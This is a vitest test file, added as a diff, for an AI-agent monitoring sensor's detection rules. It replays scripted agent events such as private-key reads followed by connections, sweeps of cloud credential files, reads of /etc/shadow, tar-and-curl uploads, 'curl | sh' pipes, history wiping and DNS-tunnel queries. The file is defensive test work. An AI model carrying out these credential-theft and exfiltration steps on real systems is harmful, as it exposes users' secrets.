@@ -1,0 +1,359 @@
+// The issue-12 rule pack on the real store with hashing and DLP on: scripted
+// agent instances as committed batches (as detect-engine.test.ts), real files
+// for the hasher to read and scan. Each scenario raises exactly its expected
+// rules after a benign warm-up that raises none; the hard negatives stay
+// silent. Tags and DLP findings are stored under the chain (verify passes)
+// and `sensor query --sensitive` filters on them.
+import { execFileSync } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pino } from 'pino';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { attachDetection } from '../collector/detect/attach.js';
+import type { DetectionEngine } from '../collector/detect/engine.js';
+import { queryEvents } from '../collector/query/event-query.js';
+import { listAlerts } from '../collector/store/alert-query.js';
+import { EventStore } from '../collector/store/event-store.js';
+import { verifyChain } from '../collector/store/verify.js';
+import { isoFromNs } from '../proto/codec/convert.js';
+import type { SensorEvent } from '../proto/events/types.js';
+
+const quiet = pino({ level: process.env.TEST_LOG ?? 'silent' });
+const MNTNS = Number(/\[(\d+)\]/.exec(readlinkSync('/proc/self/ns/mnt'))![1]);
+
+let root: string;
+let home: string;
+let proj: string;
+let store: EventStore;
+let engine: DetectionEngine;
+let seq = 0n;
+let nextPid = 2_000_000;
+let clockNs = (BigInt(Date.now()) - 600_000n) * 1_000_000n;
+
+async function commit(events: SensorEvent[]): Promise<void> {
+  store.commitBatch({ sensorId: 'host-r', bootId: 'boot-1', seq: ++seq, events });
+  for (let i = 0; i < 3; i++) {
+    await engine.idle();
+    await store.hashIdle();
+  }
+  await engine.idle();
+}
+
+class Script {
+  readonly events: SensorEvent[] = [];
+  readonly root: number;
+  private child = 0;
+  constructor(private readonly agent = 'ruleagent', private readonly uid = 0) {
+    this.root = nextPid;
+    nextPid += 100;
+    this.push(this.root, 1, 'exec', { filename: '/usr/bin/ruleagent', argv: ['ruleagent'], startNs: '1', exe: '/usr/local/bin/ruleagent', cwd: proj });
+  }
+  push(pid: number, ppid: number, type: SensorEvent['type'], extra: object): this {
+    clockNs += 2_000_000n;
+    this.events.push({
+      type, ts: isoFromNs(String(clockNs)), tsNs: String(clockNs), pid, tid: pid, ppid, uid: this.uid, gid: this.uid,
+      comm: 'ruleagent', agent: this.agent, agentPid: this.root, cgroupId: '1', netns: 1, mntns: MNTNS, ...extra,
+    } as SensorEvent);
+    return this;
+  }
+  read(path: string, pid = this.root): this {
+    return this.push(pid, this.root, 'open', { path, flags: 0, mode: 0, access: 'read', result: 3, syscall: 'openat' });
+  }
+  write(path: string, pid = this.root, flags = 0o1101): this {
+    return this.push(pid, this.root, 'open', { path, flags, mode: 0o644, access: 'write', result: 4, syscall: 'openat' });
+  }
+  connect(addr: string, port: number, pid = this.root, proto: 'tcp' | 'udp' = 'tcp'): this {
+    return this.push(pid, this.root, 'connect', { family: 'inet', proto, addr, port, result: 0 });
+  }
+  /** a child: fork + exec, then `body(pid)` adds its events, then exit */
+  run(exe: string, argv: string[], body: (pid: number) => void = () => undefined, ppid = this.root): number {
+    const pid = this.root + 1 + this.child++;
+    this.push(pid, ppid, 'fork', { startNs: '2' });
+    this.push(pid, ppid, 'exec', { filename: exe, argv, startNs: '2', exe });
+    body(pid);
+    this.push(pid, ppid, 'exit', { code: 0, signal: null });
+    return pid;
+  }
+  done(): SensorEvent[] {
+    return this.push(this.root, 1, 'exit', { code: 0, signal: null }).events;
+  }
+}
+
+const rulesOf = (rootPid: number): string[] => [...new Set(listAlerts(store.database, { limit: 10_000 }).filter((a) => a.agentPid === rootPid).map((a) => a.rule))].sort();
+const alertsOf = (rootPid: number) => listAlerts(store.database, { limit: 10_000 }).filter((a) => a.agentPid === rootPid);
+
+/** The benign warm-up every scenario starts with (must raise nothing). */
+function warmUp(s: Script): Script {
+  s.read(`${proj}/src/app.py`).read(`${home}/.ssh/id_ed25519.pub`).write(`${proj}/.env.example`).read(`${proj}/.env.example`);
+  s.run('/usr/bin/git', ['git', 'status'], (pid) => { s.read(`${home}/.gitconfig`, pid).read(`${proj}/.git/config`, pid); });
+  return s.connect('127.0.0.1', 8443); // granted: the agent's usual API
+}
+
+beforeAll(() => {
+  root = mkdtempSync(join(tmpdir(), 'detect-rules-'));
+  home = join(root, 'home', 'dev');
+  proj = join(root, 'proj');
+  mkdirSync(join(home, '.ssh'), { recursive: true });
+  mkdirSync(join(home, '.aws'), { recursive: true });
+  mkdirSync(join(home, '.kube'), { recursive: true });
+  mkdirSync(join(home, '.docker'), { recursive: true });
+  mkdirSync(join(proj, 'src'), { recursive: true });
+  mkdirSync(join(proj, '.git'), { recursive: true });
+  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'test', '-f', join(home, '.ssh', 'id_ed25519')]);
+  writeFileSync(join(home, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n');
+  writeFileSync(join(home, '.kube', 'config'), 'apiVersion: v1\n');
+  writeFileSync(join(home, '.docker', 'config.json'), '{}\n');
+  writeFileSync(join(home, '.gitconfig'), '[user]\n name = dev\n');
+  writeFileSync(join(proj, '.git', 'config'), '[core]\n');
+  writeFileSync(join(proj, 'src', 'app.py'), 'print(1)\n');
+  writeFileSync(join(proj, '.env.example'), 'API_KEY=\n');
+  const key = readFileSync(join(home, '.ssh', 'id_ed25519'));
+  writeFileSync(join(root, 'notes.txt'), key); // a copy under another name
+  writeFileSync(join(root, 'blob.b64'), key.toString('base64')); // a base64 copy
+  for (let i = 0; i < 25; i++) writeFileSync(join(proj, 'src', `m${i}.py`), `x = ${i}\n`);
+  const passwd = join(root, 'passwd');
+  writeFileSync(passwd, `root:x:0:0:root:${home}:/bin/sh\n`);
+  store = EventStore.open({ stateDir: join(root, 'state'), sensitive: { passwdFile: passwd } });
+  engine = attachDetection(store, {
+    passwdFile: passwd,
+    agents: [
+      { name: 'ruleagent', grants: { connect: ['127.0.0.1:8443', '127.0.0.1:22'] } },
+      // every rule can be switched off per agent; windows and severities are parameters
+      { name: 'procagent', detect: { learning: { duration: '1s', minEvents: 5 } } },
+      { name: 'offagent', grants: { connect: ['127.0.0.1:8443', '127.0.0.1:22'] }, detect: { exfiltration: { enabled: false }, credential_sweep: { severity: 'low', minClasses: 2 } } },
+    ],
+  }, quiet);
+});
+
+afterAll(async () => {
+  await store?.close();
+  rmSync(root, { recursive: true, force: true });
+});
+
+describe('the issue-12 rule pack on the real store', () => {
+  it('a benign warm-up and the hard negatives raise nothing', async () => {
+    const s = warmUp(new Script());
+    // git push over ssh to the usual (granted) git host: ssh opens the private key to authenticate
+    s.run('/usr/bin/ssh', ['ssh', 'git@127.0.0.1', 'git-receive-pack'], (pid) => { s.read(`${home}/.ssh/id_ed25519`, pid).connect('127.0.0.1', 22, pid); });
+    await commit(s.done());
+    // ssh-keygen -l by the user: not an agent, never judged
+    await commit([{ ...s.events[1]!, agent: null, agentPid: 0, pid: 99, type: 'open', path: `${home}/.ssh/id_ed25519`, flags: 0, mode: 0, access: 'read', result: 3, syscall: 'openat' } as SensorEvent]);
+    expect(rulesOf(s.root)).toEqual([]);
+  });
+
+  it('private key read by cat then a new loopback port: exfiltration (critical), with the read, its hash and class', async () => {
+    const s = warmUp(new Script());
+    s.run('/usr/bin/cat', ['cat', `${home}/.ssh/id_ed25519`], (pid) => { s.read(`${home}/.ssh/id_ed25519`, pid); });
+    s.connect('127.0.0.1', 40999);
+    await commit(s.done());
+    // connect grants are declared: the port outside them is a policy violation too
+    expect(rulesOf(s.root)).toEqual(['exfiltration', 'policy_violation']);
+    const a = alertsOf(s.root).find((x) => x.rule === 'exfiltration')!;
+    expect(a.severity).toBe('critical');
+    expect(a.summary).toMatch(/ssh-private-key/);
+    expect(a.summary).toMatch(/id_ed25519/);
+  });
+
+  it('the same key read by the agent itself, then only a usual destination: exfiltration (high)', async () => {
+    const s = warmUp(new Script());
+    s.read(`${home}/.ssh/id_ed25519`).connect('127.0.0.1', 8443);
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['exfiltration']);
+    expect(alertsOf(s.root)[0]!.severity).toBe('high');
+  });
+
+  it('a sweep of cloud credentials: credential_sweep', async () => {
+    const s = warmUp(new Script());
+    s.read(`${home}/.aws/credentials`).read(`${home}/.kube/config`).read(`${home}/.docker/config.json`);
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['credential_sweep']);
+  });
+
+  it('/etc/shadow and another process\'s environ: high_value_read', async () => {
+    const s = warmUp(new Script());
+    s.read('/etc/shadow');
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['high_value_read']);
+    const t = warmUp(new Script());
+    t.read('/proc/1/environ');
+    await commit(t.done());
+    expect(rulesOf(t.root)).toEqual(['high_value_read']);
+  });
+
+  it('a key copied under another name and its base64 copy: secret_copy_read, found again by fingerprint', async () => {
+    const s = warmUp(new Script());
+    s.read(`${home}/.ssh/id_ed25519.pub`);
+    s.run('/usr/bin/cp', ['cp'], (pid) => { s.read(`${home}/.ssh/id_ed25519`, pid); }); // cp is no consumer, but no egress follows
+    await commit(s.events.splice(0));
+    const t = new Script();
+    t.read(join(root, 'notes.txt')).read(join(root, 'blob.b64'));
+    await commit(t.done());
+    expect(rulesOf(s.root)).toEqual([]);
+    expect(rulesOf(t.root)).toEqual(['secret_copy_read']);
+    const summaries = alertsOf(t.root).map((a) => a.summary).join('\n');
+    expect(summaries).toMatch(/notes\.txt: it holds the private-key first found in .*id_ed25519/);
+    expect(summaries).toMatch(/blob\.b64: it holds the private-key first found in .*id_ed25519/);
+    // stored: classes and fingerprints, never the secret
+    const bodies = (store.database.prepare('SELECT body FROM file_dlp').pluck().all() as string[]).join('\n');
+    expect(bodies).toContain('private-key');
+    expect(bodies).not.toContain('OPENSSH PRIVATE KEY');
+    expect(bodies).not.toContain(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8').split('\n')[1]!.slice(0, 40));
+  });
+
+  it('mass read, archive, upload: staging', async () => {
+    const s = warmUp(new Script());
+    s.run('/usr/bin/tar', ['tar', 'czf', '/tmp/out.tgz', 'src'], (pid) => {
+      for (let i = 0; i < 25; i++) s.read(`${proj}/src/m${i}.py`, pid);
+      s.write('/tmp/out.tgz', pid);
+    });
+    s.run('/usr/bin/curl', ['curl', '-T', '/tmp/out.tgz', 'http://127.0.0.1:41000/'], (pid) => { s.read('/tmp/out.tgz', pid).connect('127.0.0.1', 41000, pid); });
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['policy_violation', 'staging']);
+  });
+
+  it('a binary dropped in /tmp and run, and curl | sh: ingress_exec and pipe_shell', async () => {
+    const s = warmUp(new Script());
+    s.run('/usr/bin/curl', ['curl', '-o', '/tmp/dropper', 'http://127.0.0.1:41001/x'], (pid) => { s.connect('127.0.0.1', 41001, pid).write('/tmp/dropper', pid); });
+    s.run('/tmp/dropper', ['/tmp/dropper']);
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['ingress_exec', 'policy_violation']);
+    const t = warmUp(new Script());
+    const shell = t.root + 50;
+    t.run('/usr/bin/bash', ['bash', '-c', 'curl -s http://127.0.0.1:41002/i.sh | sh'], (pid) => {
+      t.run('/usr/bin/curl', ['curl', '-s', 'http://127.0.0.1:41002/i.sh'], (c) => { t.connect('127.0.0.1', 41002, c); }, pid);
+      t.run('/usr/bin/sh', ['sh'], () => undefined, pid);
+    });
+    void shell;
+    await commit(t.done());
+    expect(rulesOf(t.root)).toEqual(['pipe_shell', 'policy_violation']);
+  });
+
+  it('history wiped, HISTFILE tricks: defence_evasion', async () => {
+    const s = warmUp(new Script());
+    s.write(`${home}/.bash_history`, s.root, 0o1001);
+    s.push(s.root, 1, 'unlink', { path: `${home}/.zsh_history`, rmdir: false, result: 0 });
+    s.run('/usr/bin/bash', ['bash', '-c', 'export HISTFILE=/dev/null; ls']);
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['defence_evasion']);
+    expect(alertsOf(s.root).length).toBe(3);
+  });
+
+  it('DNS labels carrying data: dns_tunnel', async () => {
+    const s = warmUp(new Script());
+    const data = randomBytes(30).toString('hex'); // e.g. a key, hex-encoded into a label
+    s.push(s.root, 1, 'dns', { qname: `${data}.x.exfil.example`, qtype: 'A', addr: '127.0.0.1', port: 5353 });
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['dns_tunnel']);
+  });
+
+  it('a /proc sweep, once learned: proc_discovery; the same sweep by a learned tool or of its own processes is routine', async () => {
+    for (let i = 0; i < 2; i++) { // learning ends after the second (its span passes 1 s)
+      const learn = warmUp(new Script('procagent'));
+      learn.run('/usr/bin/pgrep', ['pgrep', 'x'], (pid) => { for (let p = 2; p < 40; p++) learn.read(`/proc/${p}/stat`, pid); });
+      learn.run('/usr/bin/sleep', ['sleep', '1']);
+      await commit(learn.done());
+      expect(rulesOf(learn.root)).toEqual([]);
+      clockNs += 2_000_000_000n;
+    }
+    expect((store.database.prepare(`SELECT state FROM baselines WHERE agent = 'procagent'`).pluck().get())).toBe('detecting');
+    const routine = warmUp(new Script('procagent'));
+    routine.run('/usr/bin/pgrep', ['pgrep', 'x'], (pid) => { for (let p = 2; p < 40; p++) routine.read(`/proc/${p}/stat`, pid); });
+    const child = routine.run('/usr/bin/sleep', ['sleep', '1']);
+    routine.read(`/proc/${child}/environ`).read(`/proc/${routine.root}/environ`); // its own processes' environment
+    routine.run('/usr/bin/pgrep', ['pgrep', '-a', 'x'], (pid) => { routine.read('/proc/7/environ', pid); }); // a learned tool in a learned area
+    await commit(routine.done());
+    expect(rulesOf(routine.root)).toEqual([]);
+    const nosy = warmUp(new Script('procagent'));
+    nosy.run('/usr/bin/pgrep', ['pgrep', 'x']);
+    nosy.run('/usr/bin/sleep', ['sleep', '1'], (pid) => { nosy.read('/proc/7/environ', pid); }); // learned, but never read /proc
+    await commit(nosy.done());
+    expect(rulesOf(nosy.root)).toEqual([]); // per agent, not per executable: the approximation the README states
+    const cat = warmUp(new Script('procagent'));
+    cat.run('/usr/bin/cat', ['cat', '/proc/7/environ'], (pid) => { cat.read('/proc/7/environ', pid); });
+    await commit(cat.done());
+    expect(rulesOf(cat.root)).toEqual(['high_value_read', 'new_executable']);
+    const s = warmUp(new Script('procagent'));
+    s.run('/usr/bin/ps', ['ps', 'e'], (pid) => { for (let p = 2; p < 40; p++) s.read(`/proc/${p}/cmdline`, pid); });
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['new_executable', 'proc_discovery']);
+  });
+
+  it('an agent reading its own folder is at work; its shell cat-ing it, or another agent reading it, is not', async () => {
+    mkdirSync(join(home, '.qwen'), { recursive: true });
+    writeFileSync(join(home, '.qwen', 'settings.json'), '{}\n');
+    const own = warmUp(new Script('qwen-code'));
+    own.read(`${home}/.qwen/settings.json`).connect('127.0.0.1', 41500);
+    await commit(own.done());
+    expect(rulesOf(own.root)).toEqual([]);
+    const shell = warmUp(new Script('qwen-code'));
+    shell.run('/usr/bin/cat', ['cat'], (pid) => { shell.read(`${home}/.qwen/settings.json`, pid); });
+    await commit(shell.done());
+    expect(rulesOf(shell.root)).toEqual(['high_value_read']);
+    const other = warmUp(new Script('ruleagent'));
+    other.read(`${home}/.qwen/settings.json`);
+    await commit(other.done());
+    expect(rulesOf(other.root)).toEqual(['high_value_read']);
+  });
+
+  it('per agent: a rule switched off stays silent, another runs with its own severity and parameters', async () => {
+    const s = warmUp(new Script('offagent'));
+    s.run('/usr/bin/cat', ['cat'], (pid) => { s.read(`${home}/.ssh/id_ed25519`, pid).read(`${home}/.aws/credentials`, pid); });
+    s.connect('127.0.0.1', 41999);
+    await commit(s.done());
+    expect(rulesOf(s.root)).toEqual(['credential_sweep', 'policy_violation']);
+    expect(alertsOf(s.root).find((a) => a.rule === 'credential_sweep')!.severity).toBe('low');
+  });
+
+  it('tags and findings are under the chain and queryable', async () => {
+    expect(verifyChain(store.database).ok).toBe(true);
+    const tagged = queryEvents(store.database, { sensitive: 'ssh-private-key', limit: 100 });
+    expect(tagged.length).toBeGreaterThan(0);
+    expect(tagged.every((r) => r.event.type === 'open' && r.event.sensitive?.includes('ssh-private-key'))).toBe(true);
+    const dlp = queryEvents(store.database, { sensitive: 'private-key', limit: 100 });
+    expect(dlp.some((r) => String((r.event as { path: string }).path).endsWith('blob.b64'))).toBe(true);
+    const any = queryEvents(store.database, { sensitive: '', limit: 1000 });
+    expect(any.some((r) => r.event.sensitive?.includes('system-credentials'))).toBe(true);
+    // a public key is not tagged
+    expect(queryEvents(store.database, { pathGlob: '**/id_ed25519.pub', limit: 10 }).every((r) => r.event.sensitive === undefined)).toBe(true);
+    // an edited tag shows in verify
+    store.database.prepare(`UPDATE sensitive_tags SET classes = '["x"]' WHERE rowid = (SELECT min(rowid) FROM sensitive_tags)`).run();
+    expect(verifyChain(store.database).ok).toBe(false);
+  });
+});
+
+describe('the config\'s sensitive: section', () => {
+  it('extends the catalogue for tagging and detection, and names file, line and field on an error', async () => {
+    const { parseAgentConfig, sensitiveClassesOf } = await import('../sensor/agents/config.js');
+    const { detectionOptions } = await import('../sensor/cli/commands/detect-options.js');
+    const agents = parseAgentConfig([
+      'agents:', '  - name: a', '    comm: [a]',
+      'sensitive:', '  disable: [repl-history]', '  classes:', '    - name: vault-token', '      paths: ["~/.vault-token"]', '      consumers: [vault]', '',
+    ].join('\n'), 'agents.yaml');
+    const names = sensitiveClassesOf(agents)!.map((c) => c.name);
+    expect(names).toContain('vault-token');
+    expect(names).not.toContain('repl-history');
+    expect(detectionOptions({ detect: true }, agents)!.sensitive!.map((c) => c.name)).toContain('vault-token');
+    expect(() => parseAgentConfig('agents:\n  - name: a\n    comm: [a]\nsensitive:\n  classes:\n    - name: x\n      paths: [relative]\n', 'agents.yaml'))
+      .toThrow(/^agents\.yaml:7: sensitive\.classes\[0\]\.paths\[0\]: must start with/);
+  });
+});
+
+describe('the fingerprint key', () => {
+  it('is 32 bytes, 0600, created once and kept across opens', async () => {
+    const { loadFingerprintKey, FINGERPRINT_KEY_FILE } = await import('../collector/store/dlp-rows.js');
+    const { statSync, mkdtempSync: mk, rmSync: rm, writeFileSync: wf } = await import('node:fs');
+    const d = mk(join(tmpdir(), 'dlp-key-'));
+    try {
+      const a = loadFingerprintKey(d);
+      expect(a.length).toBe(32);
+      expect(statSync(join(d, FINGERPRINT_KEY_FILE)).mode & 0o777).toBe(0o600);
+      expect(loadFingerprintKey(d).equals(a)).toBe(true);
+      wf(join(d, FINGERPRINT_KEY_FILE), 'short', { mode: 0o600 });
+      expect(() => loadFingerprintKey(d)).toThrow(/must be 32 bytes/);
+    } finally {
+      rm(d, { recursive: true, force: true });
+    }
+  });
+});
